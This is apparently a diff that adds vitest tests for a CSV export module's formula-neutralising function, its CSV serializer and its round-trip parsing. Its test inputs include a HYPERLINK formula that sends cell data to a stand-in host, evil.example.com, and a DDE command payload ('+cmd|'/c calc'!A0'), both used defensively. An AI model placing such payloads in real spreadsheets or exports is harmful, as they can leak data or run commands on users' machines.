@@ -1,0 +1,71 @@
+import { describe, expect, it } from "vitest";
+import { neutraliseFormula, toCsv } from "./export-csv";
+import { parseCsvText } from "./parse-csv";
+
+describe("neutraliseFormula", () => {
+  it.each([
+    ["=SUM(A1)", "'=SUM(A1)"],
+    ['=HYPERLINK("https://evil.example.com?x="&A1,"Click")', `'=HYPERLINK("https://evil.example.com?x="&A1,"Click")`],
+    ["+cmd|'/c calc'!A0", "'+cmd|'/c calc'!A0"],
+    ["-2+3", "'-2+3"],
+    ["@x", "'@x"],
+    ["@SUM(1+1)", "'@SUM(1+1)"],
+    ["\t=1", "'\t=1"],
+    ["\r=1", "'\r=1"],
+    ["Jane Doe", "Jane Doe"],
+    ["VP, Sales = growth", "VP, Sales = growth"],
+    ["jane@example.com", "jane@example.com"],
+    ["'already quoted", "'already quoted"],
+    ["", ""],
+    // Phone numbers are not exempt: each would otherwise be summed or lose its "+" in Excel.
+    ["+14155550134", "'+14155550134"],
+    ["+1 415-555-0134", "'+1 415-555-0134"],
+    ["+1-2", "'+1-2"],
+    ["+44 (0)20 7946 0958", "'+44 (0)20 7946 0958"],
+    ["(415) 555-0134", "(415) 555-0134"],
+    ["415-555-0134", "415-555-0134"],
+  ])("%j → %j", (input, expected) => {
+    expect(neutraliseFormula(input)).toBe(expected);
+  });
+
+  it("keeps every digit and the plus of a phone number after the quote", () => {
+    expect(neutraliseFormula("+14155550134").slice(1)).toBe("+14155550134");
+  });
+});
+
+describe("toCsv", () => {
+  it("starts with a UTF-8 BOM and ends every record with CRLF", () => {
+    const csv = toCsv(["a", "b"], [["1", "2"]]);
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    expect(csv).toBe("\uFEFFa,b\r\n1,2\r\n");
+    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+  });
+
+  it("quotes only fields with quotes, commas or line breaks, doubling quotes", () => {
+    expect(toCsv(["h"], [["plain"], ["a,b"], ['say "hi"'], ["two\nlines"], ["cr\ronly"], ["semi;colon"], [" padded "]])).toBe(
+      '\uFEFFh\r\nplain\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n"cr\ronly"\r\nsemi;colon\r\n padded \r\n',
+    );
+  });
+
+  it("writes null as an empty field and numbers as numbers, negative ones unquoted", () => {
+    expect(toCsv(["n", "x", "y"], [[-5, null, 2.5]])).toBe("\uFEFFn,x,y\r\n-5,,2.5\r\n");
+  });
+
+  it("neutralises formulas in header and string cells, then quotes as needed", () => {
+    expect(toCsv(["=x"], [['=HYPERLINK("a","b")'], ["+14155550134"]])).toBe(`\uFEFF'=x\r\n"'=HYPERLINK(""a"",""b"")"\r\n'+14155550134\r\n`);
+  });
+
+  it("round-trips tricky values through parseCsvText", () => {
+    const header = ["Name", "Notes", "URL", "Id"];
+    const rows = [
+      ["Doe, Jane", 'She said "call me"', "https://www.linkedin.com/in/jane-doe/", "2751275603503088159"],
+      ["Müller, Jürgen", "line one\r\nline two\nline three", "https://www.linkedin.com/in/j%C3%BCrgen-m%C3%BCller/", "0000001234567890123"],
+      ["张伟", '""', "a;b|c\td", ""],
+      ["'quoted'", " spaced ", ",", '"'],
+    ];
+    const parsed = parseCsvText(toCsv(header, rows));
+    expect(parsed.headers).toEqual(header);
+    expect(parsed.rows).toEqual(rows);
+    expect(parsed.delimiter).toBe(",");
+  });
+});
